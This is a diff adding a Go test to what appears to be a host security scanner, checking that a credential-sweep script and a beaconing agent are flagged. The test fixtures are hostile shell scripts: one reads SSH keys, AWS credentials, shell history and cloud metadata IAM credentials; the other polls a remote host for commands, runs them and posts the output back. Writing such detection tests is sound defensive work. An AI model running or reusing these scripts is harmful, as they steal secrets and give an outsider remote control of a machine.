@@ -378,3 +378,28 @@ func containsTechnique(f audit.Finding, c audit.Category) bool {
 	}
 	return false
 }
+
+// A sweep of credential stores is medium from a program directory and high where intruders
+// keep their tools; an agent taking orders from a web server is labelled malware.
+func TestSweepPlaceAndAgentLabel(t *testing.T) {
+	sweep := "#!/bin/sh\ncat ~/.ssh/id_rsa ~/.ssh/config\ncat ~/.aws/credentials\ncat ~/.bash_history\nenv\ncurl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/\n"
+	for p, want := range map[string]audit.Severity{"/usr/local/bin/inventory.sh": audit.Medium, "/var/tmp/.k/grab.sh": audit.High, "/dev/shm/g.sh": audit.High} {
+		got := audit.Severity(0)
+		for _, f := range scanFile(p, sweep) {
+			if f.Rule == RuleCredSweep {
+				got = f.Severity
+			}
+		}
+		if got != want {
+			t.Errorf("%s: sweep %s, want %s", p, got, want)
+		}
+	}
+	agent := "#!/bin/bash\nwhile true; do\n  c=$(curl -s http://203.0.113.9/t)\n  curl -s -d \"$(sh -c \"$c\" 2>&1)\" http://203.0.113.9/r\n  sleep 30\ndone\n"
+	ok := false
+	for _, f := range scanFile("/usr/local/bin/upd", agent) {
+		ok = ok || f.Rule == RuleHTTPAgent && f.Is(audit.CategoryMalware)
+	}
+	if !ok {
+		t.Error("agent not labelled malware")
+	}
+}
